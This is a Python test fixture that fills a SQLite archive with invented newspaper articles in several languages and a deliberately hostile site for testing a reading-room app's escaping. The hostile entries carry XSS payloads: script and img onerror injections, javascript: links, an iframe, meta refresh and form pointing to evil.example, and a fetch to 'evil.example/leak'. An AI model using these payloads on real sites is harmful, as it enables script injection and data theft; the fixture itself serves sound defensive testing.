"""A small archive of invented articles to read in: three newspapers that never were, and one hostile site.

Made from the migrations and plain inserts, so that the reading room's tests need neither crawler nor store.
"""

# ruff: noqa: E501 - lines of invented prose and of rows

from __future__ import annotations

import hashlib
import html
import json
import shutil
import sqlite3
from base64 import b32encode
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path

from sqlite_utils import Database

from pipelines.store.migrations import migrations

METADATA = Path(__file__).parents[2] / "metadata.yml"
XSS = "<script>window.hurt = 1; fetch('https://evil.example/leak')</script><img src=x onerror='window.hurt = 2'>"
SAFE_HOSTILE_BODY = '<p>A sanitised body that points away: <a href="https://evil.example/">a link</a>.</p>'
RAW_HOSTILE_BODY = (
    f"<p>Not sanitised at all.</p>{XSS}<iframe src='https://evil.example/'></iframe>"
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'><form action='https://evil.example/'><button>b</button></form>"
    "<a id='js' href='javascript:window.hurt = 3'>click</a><p style='position:fixed'>over all</p>"
)


@dataclass(frozen=True)
class Version:
    """One version of an invented article."""

    seen: str
    change: str
    title: str
    standfirst: str
    paragraphs: tuple[str, ...]
    added: int = 0
    removed: int = 0


@dataclass(frozen=True)
class Piece:
    """An invented article with all its versions, the newest last."""

    site: str
    slug: str
    byline: str
    published: str
    versions: tuple[Version, ...]
    language: str = "en"
    section: str = "News"
    kind: str = "article"
    access: str = "open"
    offset: int | None = 0
    gone: str | None = None
    tags: tuple[str, ...] = ()
    removed: tuple[tuple[str, str], ...] = (
        ("share", "Share this article"),
        ("newsletter", "Our letter, every Friday"),
    )
    other_urls: tuple[tuple[str, str, str], ...] = ()
    html: str | None = None
    image: tuple[str, str, str] | None = None


@dataclass(frozen=True)
class Shop:
    """A site of the invented archive."""

    key: str
    name: str
    url: str
    language: str
    pieces: tuple[Piece, ...] = field(default=())


def only(seen: str, title: str, standfirst: str, *paragraphs: str) -> tuple[Version, ...]:
    """The versions of an article that never changed."""
    return (Version(seen, "first", title, standfirst, paragraphs),)


LIGHTHOUSE = (
    "For the first time in eleven winters the lamp on Gannet Point turned on Thursday night, and half of Saltmere "
    "stood on the sea wall to see it.",
    "The light was put out when its rail cracked in the great frost. A new one was cast at the Orrin foundry over "
    "the summer, from the old drawings, and hauled up the ninety-two steps by hand.",
    "“You do not notice a thing like that until it is gone,” said Marta Quill, who kept the light from 1979 until it "
    "failed. “Then you notice it every night.”",
    "The harbour board paid £140,000 for the repair, of which a third came from a collection in the town.",
    "Fishing boats had asked for the light since the wreck of the Anne Doran. Its beam reaches nineteen miles, and will be "
    "watched from the mainland.",
)

HARBOUR = Shop("courier", "The Saltmere Courier", "https://courier.example/", "en", (
    Piece("courier", "harbour/lighthouse-turns-again", "Ines Harrow, Tom Adeyemi", "2026-11-19T18:40:00Z", (
        Version("2026-11-19T18:52:10Z", "first", "Lighthouse turns again after ten years of darkness",
                "The lamp on Gannet Point was lit on Thursday before a crowd of hundreds",
                (LIGHTHOUSE[0].replace("eleven", "ten"), *LIGHTHOUSE[1:3],
                 "The harbour board paid £120,000 for the repair.", LIGHTHOUSE[4])),
        Version("2026-11-19T21:15:44Z", "correction", "Lighthouse turns again after eleven years of darkness",
                "The lamp on Gannet Point was lit on Thursday before a crowd of hundreds",
                (*LIGHTHOUSE[:3], "The harbour board paid £140,000 for the repair.", LIGHTHOUSE[4]), 3, 3),
        Version("2026-11-20T07:02:31Z", "rewrite", "Lighthouse turns again after eleven dark winters",
                "The lamp on Gannet Point was lit on Thursday, and half the town came to see it", LIGHTHOUSE, 22, 9),
    ), section="Harbour", tags=("Gannet Point", "lighthouses", "harbour board"),
       removed=(("share", "Share  Print  Send to a friend"), ("newsletter", "The Tide Table: our letter, every Friday morning"),
                ("related", "Read more: the foundry that would not close"), ("comments", "14 comments. Log in to reply.")),
       other_urls=(("https://courier.example/h/4417", "article", "redirects to the article"),
                   ("https://courier.example/harbour/lighthouse-turns-again?ref=front", "duplicate", "tracking parameter"),
                   ("https://courier.example/amp/harbour/lighthouse-turns-again", "duplicate", "AMP copy")),
       image=("https://courier.example/img/lamp.jpg", "The lamp room on Thursday night", "Jo Pell")),
    Piece("courier", "council/ferry-timetable", "Tom Adeyemi", "2026-11-18T09:05:00Z", only(
        "2026-11-18T09:30:00Z", "Winter ferry keeps its last boat",
        "Councillors voted nine to four to run the 23:10 until March",
        "The last ferry of the evening will sail through the winter after all.",
        "Councillors voted nine to four on Tuesday night to pay the operator for empty seats, at a cost of £310 a week.",
        "Islanders had said that without it nobody who works in a mainland kitchen could get home."), section="Council"),
    Piece("courier", "sport/rowing-final", "Pell Sorrento", "2026-11-15T16:20:00Z", only(
        "2026-11-15T17:00:00Z", "Six boats, one breath: the gig final that nobody won",
        "A dead heat, measured three times, leaves the cup with both crews",
        "They measured it three times, and three times the answer was nothing at all.",
        "Saltmere and Orrin crossed the line together in Sunday’s gig final, and will keep the cup for six months each."),
        section="Sport"),
    Piece("courier", "news/market-live", "Ines Harrow", "2026-11-14T06:00:00Z", (
        Version("2026-11-14T06:30:00Z", "first", "Market day: as it happened", "Forty stalls and one goat",
                ("06:10 The first stalls are up.",)),
        Version("2026-11-14T09:30:00Z", "update", "Market day: as it happened", "Forty stalls and one goat",
                ("09:05 The goat has been found.", "06:10 The first stalls are up."), 6, 0),
    ), kind="live blog"),
    Piece("courier", "letters/bells", "", "2026-11-11", only(
        "2026-11-12T06:00:00Z", "Letter: let the bells be late",
        "", "Sir, the clock of St Brannock’s has been four minutes slow since my boyhood.",
        "I ask that whoever repairs it be kept away from it."), section="Letters", offset=None),
    Piece("courier", "news/bakery-prices", "Ines Harrow", "2026-10-02T10:00:00Z", (
        Version("2026-10-02T10:30:00Z", "first", "Bakery to close after 80 years", "The ovens go cold on Saturday",
                ("The Lantern bakery will close on Saturday.", "Its owner said the lease had doubled.")),
        Version("2026-10-06T08:00:00Z", "withdrawn", "", "", (), 0, 12),
    ), gone="2026-10-06T08:00:00Z"),
    Piece("courier", "plus/harbour-accounts", "Tom Adeyemi", "2026-09-20T05:00:00Z", only(
        "2026-09-20T06:00:00Z", "Inside the harbour board’s accounts", "Where the mooring fees went",
        "Subscribers can read the full story."), access="paywalled", section="Council"),
))  # fmt: skip

VALLEY = Shop("talbote", "Der Talbote", "https://talbote.example/", "de", (
    Piece("talbote", "2026/11/bruecke", "Käthe Brandl", "2026-11-17T05:30:00Z", (
        Version("2026-11-17T06:00:00Z", "first", "Die alte Brücke bleibt offen",
                "Gutachter geben Entwarnung für den Winter",
                ("Die Brücke über die Ache bleibt bis zum Frühjahr für Fußgänger geöffnet.",
                 "Das sagte der Bürgermeister am Montag nach einer Prüfung der Pfeiler.")),
        Version("2026-11-18T06:00:00Z", "headline", "Alte Brücke bleibt im Winter offen",
                "Gutachter geben Entwarnung für den Winter",
                ("Die Brücke über die Ache bleibt bis zum Frühjahr für Fußgänger geöffnet.",
                 "Das sagte der Bürgermeister am Montag nach einer Prüfung der Pfeiler."), 2, 1),
    ), language="de", section="Ort", offset=60),
    Piece("talbote", "2026/11/schnee", "Käthe Brandl, Jonas Öller", "2026-11-09T12:00:00Z", only(
        "2026-11-09T13:00:00Z", "Der erste Schnee kam in der Nacht", "Auf dem Joch liegen zwanzig Zentimeter",
        "Wer am Sonntag früh aufstand, sah den Talboden weiß.",
        "Die Straße zum Joch war bis Mittag gesperrt."), language="de", section="Wetter", offset=60),
))  # fmt: skip

WORLD = Shop("mosaic", "Mosaic Weekly", "https://mosaic.example/", "en", (
    Piece("mosaic", "ar/library", "ليلى حداد", "2026-11-10T08:00:00Z", only(
        "2026-11-10T09:00:00Z", "مكتبة الحي تفتح أبوابها من جديد", "بعد عامين من الترميم",
        "فتحت مكتبة الحي أبوابها صباح الثلاثاء بعد عامين من الترميم.",
        "وقالت مديرة المكتبة إن عدد الكتب تضاعف."), language="ar", section="Culture", offset=180),
    Piece("mosaic", "ja/kissaten", "森 千夏", "2026-11-08T01:00:00Z", (
        Version("2026-11-08T02:00:00Z", "first", "駅前の喫茶店が五十年", "店主は今日も豆を挽く",
                ("駅前の喫茶店が今年で五十年を迎えた。", "店主は毎朝四時に起きる。")),
        Version("2026-11-08T05:00:00Z", "correction", "駅前の喫茶店が五十年", "店主は今日も豆を挽く",
                ("駅前の喫茶店が今年で五十年を迎えた。", "店主は毎朝五時に起きる。"), 1, 1),
    ), language="ja", section="Culture", offset=540),
    Piece("mosaic", "fr/phare", "Aude Kermadec", "2026-11-05T07:15:00Z", only(
        "2026-11-05T08:00:00Z", "Le gardien qui comptait les vagues", "Trente ans de carnets sauvés des eaux",
        "Pendant trente ans, Yvon Le Bras a noté chaque vague qui passait le phare.",
        "Ses carnets, retrouvés dans un grenier, vont être publiés."), language="fr", section="Culture", offset=60),
))  # fmt: skip

HOSTILE = Shop("hostile", f"Evil {XSS}", "javascript:window.hurt = 4", "en", (
    Piece("hostile", f"x{XSS}", f"Mallory {XSS}", "2001-01-01T00:00:00Z", (
        Version("2001-01-01T00:00:00Z", "first", f"Hostile {XSS} payload", f"Standfirst {XSS}",
                (f"Hostilebody one {XSS} two.",)),
        Version("2001-01-02T00:00:00Z", "correction", f"Hostile {XSS} payload again", f"Standfirst {XSS}",
                (f"Hostilebody one {XSS} three \x02 \x03 marks.",), 1, 1),
    ), section=f"Section {XSS}", language='en" onload="window.hurt=5', tags=(f"tag {XSS}",),
       removed=((f"share{XSS}", f"Removed {XSS}"),), html=RAW_HOSTILE_BODY,
       other_urls=(("javascript:window.hurt = 6", "article", f"reason {XSS}"),),
       image=("https://evil.example/pixel.gif", f"Caption {XSS}", f"Credit {XSS}")),
    Piece("hostile", "linked", "Mallory", "0000 is no date", only(
        "also not a date", "A body that points away", "", "A sanitised body that points away."), html=SAFE_HOSTILE_BODY),
))  # fmt: skip

SHOPS = (HARBOUR, VALLEY, WORLD)


def build(folder: Path, *, hostile: bool = True) -> Path:
    """Make `folder` an archive of the invented articles, with the metadata.yml that ships; answers archive.db's path."""
    shops = (*SHOPS, HOSTILE) if hostile else SHOPS
    path = write(folder, [(shop, piece) for shop in shops for piece in shop.pieces])
    shutil.copy(METADATA, folder / "metadata.yml")
    return path


def write(folder: Path, pieces: Sequence[tuple[Shop, Piece]]) -> Path:
    """Make `folder` an archive of these articles and their sites; answers archive.db's path."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "archive.db"
    db = Database(path)
    migrations.apply(db)
    db.enable_wal()
    crawl = _crawl(db)
    for shop in {shop.key: shop for shop, _ in pieces}.values():
        _site(db, shop)
    for shop, piece in pieces:
        _article(db, shop, piece, crawl)
    db.execute("insert into articles_fts(articles_fts) values('rebuild')")
    db.conn.commit()
    db.close()
    return path


def add(path: Path, piece: Piece, shop: Shop = HARBOUR) -> int:
    """Write one more article, as a crawl would while the reading room is open; answers its id."""
    db = Database(path)
    number = _article(db, shop, piece, 1)
    db.execute("insert into articles_fts(rowid, title, standfirst, byline, text) "
               "select id, title, standfirst, byline, text from articles_full where id = ?", [number])  # fmt: skip
    db.conn.commit()
    db.close()
    return number


def _crawl(db: Database) -> int:
    row = {
        "started": "2026-11-20T07:00:00Z", "finished": "2026-11-20T07:03:12Z", "state": "finished", "sites": "[]",
        "software": "newsarchive 0.1.0", "found": 41, "fetched": 30, "archived": 12, "new_revisions": 17,
    }  # fmt: skip
    return _insert(db.conn, "crawls", row)


def _site(db: Database, shop: Shop) -> None:
    _insert(db.conn, "sites", {
        "key": shop.key, "name": shop.name, "url": shop.url, "language": shop.language, "articles": len(shop.pieces),
        "first_crawl": "2026-09-20T06:00:00Z", "last_crawl": "2026-11-20T07:03:12Z",
    })  # fmt: skip


def _article(db: Database, shop: Shop, piece: Piece, crawl: int) -> int:
    url = shop.url + piece.slug
    number = _insert(db.conn, "articles", _article_row(piece, url))
    text = _last_text(piece)
    body = piece.html or "".join(f"<p>{html.escape(part)}</p>" for part in text.split("\n\n"))
    _insert(db.conn, "article_text", {"id": number, "text": text, "html": body})
    _insert(db.conn, "urls", {
        "url": url, "site": piece.site, "outcome": "gone" if piece.gone else "article", "reason": "an article",
        "article": number, "first_seen": piece.versions[0].seen, "last_seen": piece.versions[-1].seen, "status": 200,
        "found_on": shop.url,
    })  # fmt: skip
    for other, outcome, reason in piece.other_urls:
        _insert(db.conn, "urls", {
            "url": other, "site": piece.site, "outcome": outcome, "reason": reason, "article": number,
            "first_seen": piece.versions[0].seen, "last_seen": piece.versions[-1].seen,
        })  # fmt: skip
    _versions(db, piece, url, number, crawl)
    _hangings(db, piece, number)
    return number


def _article_row(piece: Piece, url: str) -> dict[str, object]:
    last = _last_told(piece)
    return {
        "key": url, "site": piece.site, "url": url, "title": last.title, "standfirst": last.standfirst or None,
        "byline": piece.byline or None, "published": piece.published, "modified": None, "utc_offset": piece.offset,
        "day": piece.published[:10], "section": piece.section, "language": piece.language, "kind": piece.kind,
        "access": piece.access, "word_count": len(_last_text(piece).split()), "revisions": len(piece.versions),
        "first_seen": piece.versions[0].seen, "last_seen": piece.versions[-1].seen, "gone": piece.gone, "confidence": 0.97,
    }  # fmt: skip


def _last_told(piece: Piece) -> Version:
    """The newest version that is no tombstone."""
    return next(version for version in reversed(piece.versions) if version.paragraphs)


def _last_text(piece: Piece) -> str:
    return "\n\n".join(_last_told(piece).paragraphs)


def _versions(db: Database, piece: Piece, url: str, article: int, crawl: int) -> None:
    for ordinal, version in enumerate(piece.versions, start=1):
        digest = "sha1:" + b32encode(hashlib.sha1(f"{url}{ordinal}".encode()).digest()).decode()
        withdrawn = version.change == "withdrawn"
        capture = _insert(db.conn, "captures", {
            "url": url, "site": piece.site, "crawl": crawl, "article": article, "fetched": version.seen,
            "status": 404 if withdrawn else 200, "content_type": "text/html; charset=utf-8",
            "headers": json.dumps([["Content-Type", "text/html; charset=utf-8"], ["Server", "invented"]]),
            "digest": digest, "length": 48211, "chain": json.dumps([o[0] for o in piece.other_urls[:1]]),
            "verdict": "gone" if withdrawn else "article", "reason": version.change, "extractor": "newsarchive 0.1.0",
            "encoding": "utf-8", "warc_file": "warc/2026-11-20-00001.warc.gz", "warc_offset": 18004 * ordinal,
            "warc_length": 9120,
        })  # fmt: skip
        text = "\n\n".join(version.paragraphs)
        _insert(db.conn, "revisions", {
            "article": article, "ordinal": ordinal, "capture": capture, "seen": version.seen, "change": version.change,
            "title": version.title or None, "standfirst": version.standfirst or None, "byline": piece.byline,
            "text": text,
            "hash": hashlib.sha256(text.encode()).hexdigest(), "words_added": version.added,
            "words_removed": version.removed,
        })  # fmt: skip


def _hangings(db: Database, piece: Piece, article: int) -> None:
    for position, name in enumerate(filter(None, piece.byline.split(", ")), start=1):
        db.table("authors").insert({"name": name}, ignore=True)
        author = db.execute("select id from authors where name = ?", [name]).fetchone()[0]
        _insert(db.conn, "article_authors", {"article": article, "author": author, "position": position})
    for name in piece.tags:
        db.table("tags").insert({"name": name}, ignore=True)
        tag = db.execute("select id from tags where name = ?", [name]).fetchone()[0]
        _insert(db.conn, "article_tags", {"article": article, "tag": tag})
    for position, (reason, text) in enumerate(piece.removed, start=1):
        _insert(
            db.conn,
            "removed_blocks",
            {"article": article, "position": position, "reason": reason, "text": text},
        )
    if piece.image:
        url, caption, credit = piece.image
        _insert(db.conn, "images", {"article": article, "url": url, "caption": caption, "credit": credit})


def _insert(connection: sqlite3.Connection, table: str, row: dict[str, object]) -> int:
    names = ", ".join(row)
    marks = ", ".join("?" * len(row))
    cursor = connection.execute(f"insert into {table} ({names}) values ({marks})", list(row.values()))
    return cursor.lastrowid or 0
